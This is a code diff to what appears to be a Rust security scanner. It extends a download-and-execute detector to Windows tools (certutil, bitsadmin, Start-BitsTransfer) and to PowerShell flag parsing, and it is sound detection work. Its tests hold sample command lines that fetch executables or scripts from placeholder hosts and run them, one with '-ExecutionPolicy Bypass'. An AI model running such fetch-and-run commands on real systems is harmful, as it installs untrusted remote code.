@@ -21,7 +21,16 @@ const LOOKAHEAD_LINES: usize = 80;
 /// The analyzers of this family.
 pub(super) fn analyzers() -> Vec<Analyzer> {
     vec![Analyzer {
-        triggers: &["curl", "wget", "iwr", "invoke-webrequest", "aria2c"],
+        triggers: &[
+            "curl",
+            "wget",
+            "iwr",
+            "invoke-webrequest",
+            "aria2c",
+            "certutil",
+            "bitsadmin",
+            "start-bitstransfer",
+        ],
         run: download_and_run,
     }]
 }
@@ -98,6 +107,9 @@ fn may_write_file(line: &str) -> bool {
         || contains_ci(b, b"wget")
         || contains_ci(b, b"--output")
         || contains_ci(b, b"-outfile")
+        || contains_ci(b, b"certutil")
+        || contains_ci(b, b"bitsadmin")
+        || contains_ci(b, b"bitstransfer")
         || has_short_output_flag(line)
 }
 
@@ -155,6 +167,12 @@ fn downloads(line: &str) -> Vec<Download> {
             b'w'
         } else if is("iwr") || is("invoke-webrequest") {
             b'p'
+        } else if is("certutil") || is("certutil.exe") || is("bitsadmin") || is("bitsadmin.exe") {
+            // Windows' own downloaders (`certutil -urlcache -f URL FILE`,
+            // `bitsadmin /transfer job URL FILE`): the file follows the URL.
+            b'u'
+        } else if is("start-bitstransfer") {
+            b'p'
         } else {
             i += 1;
             continue;
@@ -173,6 +191,10 @@ fn downloads(line: &str) -> Vec<Download> {
             let mut take_next = false;
             if t.contains("://") {
                 url.get_or_insert_with(|| t.to_string());
+            } else if kind == b'u' {
+                if url.is_some() && out.is_none() && !t.starts_with(['-', '/']) {
+                    out = Some(t.to_string());
+                }
             } else if let Some(target) = t.strip_prefix('>') {
                 if target.is_empty() {
                     take_next = true;
@@ -213,7 +235,10 @@ fn downloads(line: &str) -> Vec<Download> {
                         }
                     }
                 }
-            } else if t.eq_ignore_ascii_case("-outfile") || t.eq_ignore_ascii_case("-o") {
+            } else if t.eq_ignore_ascii_case("-outfile")
+                || t.eq_ignore_ascii_case("-o")
+                || t.eq_ignore_ascii_case("-destination")
+            {
                 take_next = true;
             }
             if take_next {
@@ -316,16 +341,24 @@ const INTERPRETERS: &[&str] = &[
     "powershell",
 ];
 
+/// An interpreter's flags whose next word is their value.
+const FLAGS_WITH_VALUE: &[&str] =
+    &["-executionpolicy", "-ep", "-exec", "-windowstyle", "-w", "-version", "-configurationname"];
+
 /// Whether the line runs the file: as a command, or as the script of an
 /// interpreter. Tokens before `skip` (the fetch command itself) are ignored.
 fn executes(line: &str, path: &str, name: &str, skip: usize) -> bool {
     let tokens: Vec<&str> = line.split_whitespace().collect();
     let mut command_position = true;
     let mut interpreter = false;
+    let mut skip_value = false;
     for (k, raw) in tokens.iter().enumerate() {
         if is_separator(raw) || raw.ends_with(['(', '{']) || *raw == "$(" {
             command_position = true;
             interpreter = false;
+            continue;
+        }
+        if interpreter && std::mem::take(&mut skip_value) {
             continue;
         }
         let starts_code = raw.starts_with('`') || raw.starts_with("$(");
@@ -334,8 +367,12 @@ fn executes(line: &str, path: &str, name: &str, skip: usize) -> bool {
             return true;
         }
         if interpreter && t.starts_with('-') {
+            // `powershell -ExecutionPolicy Bypass -File x.ps1`: the flag's
+            // value is no script.
+            skip_value = FLAGS_WITH_VALUE.iter().any(|f| f.eq_ignore_ascii_case(t));
             continue;
         }
+
         let listed = |list: &[&str]| list.iter().any(|w| w.eq_ignore_ascii_case(t));
         if (command_position || starts_code) && listed(INTERPRETERS) {
             interpreter = true;
@@ -358,6 +395,28 @@ mod tests {
     use super::*;
     use crate::scan::testutil::{assert_absent, assert_hit, assert_severity};
     use crate::scan::{Category::*, Severity::*};
+
+    #[test]
+    fn windows_downloaders_saving_a_file_that_then_runs() {
+        let certutil = "certutil -urlcache -split -f http://dl.example-drivers.net/lp5.exe %TEMP%\\lp5.exe\n%TEMP%\\lp5.exe /quiet\n";
+        assert_hit(certutil, "remote.download-exec", RemoteExecution, Critical, 2);
+        let bits = "bitsadmin /transfer fonts /download /priority high https://a.example-fonts.net/p.ps1 C:\\Users\\Public\\p.ps1\npowershell -ExecutionPolicy Bypass -File C:\\Users\\Public\\p.ps1\n";
+        assert_hit(bits, "remote.download-exec", RemoteExecution, Critical, 2);
+        let ps =
+            "Start-BitsTransfer -Source https://a.example-tools.net/t.exe -Destination t.exe\n.\\t.exe\n";
+        assert_hit(ps, "remote.download-exec", RemoteExecution, Critical, 2);
+        // A hash checked, or a download never run: no two-stage run.
+        assert_absent("certutil -hashfile node.msi SHA256\nnode.msi\n", "remote.download-exec");
+        assert_absent(
+            "certutil -urlcache -split -f https://a.example.net/readme.txt readme.txt\nnotepad readme.txt\n",
+            "remote.download-exec",
+        );
+        // The value of `-ExecutionPolicy` is no script.
+        assert_absent(
+            "curl -o Bypass https://a.example.net/x\npowershell -ExecutionPolicy Bypass -File setup.ps1\n",
+            "remote.download-exec",
+        );
+    }
 
     #[test]
     fn a_script_opened_in_a_pager_before_it_runs_is_reviewed() {
